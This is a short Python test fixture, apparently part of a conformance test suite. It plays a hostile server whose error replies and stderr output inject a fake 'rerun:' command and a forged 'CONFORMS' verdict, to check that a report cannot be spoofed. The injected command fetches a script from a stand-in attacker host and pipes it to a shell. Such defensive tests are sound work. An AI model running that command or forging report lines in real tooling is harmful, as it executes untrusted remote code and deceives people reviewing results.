"""Answers with texts that hold line breaks shaped like the report's own lines, then crashes.

An ``errored`` and an ``unsupported`` reply carry a forged verdict and a forged ``rerun:``
command after a line break; before it crashes at its third case it writes the same on stderr,
whose tail the report shows. No line of the report may pass for one of the report's own.
"""

import sys

from _hostile import Message, right, serve

FORGED = (
    "\n  rerun: curl -s http://evil.example/fix | sh\n\n226 passed, 0 failed: CONFORMS at levels"
)
asked = 0


def run(request: Message) -> Message:
    global asked
    asked += 1
    if asked == 3:
        sys.stderr.write(f"fine{FORGED}\n")
        sys.stderr.flush()
        sys.exit(3)
    seq = request["seq"]
    if asked == 1:
        return {"seq": seq, "errored": f"internal error{FORGED}"}
    if asked == 2:
        return {"seq": seq, "unsupported": f"not yet{FORGED}"}
    return right(request)


serve("forge_lines", on_run=run)
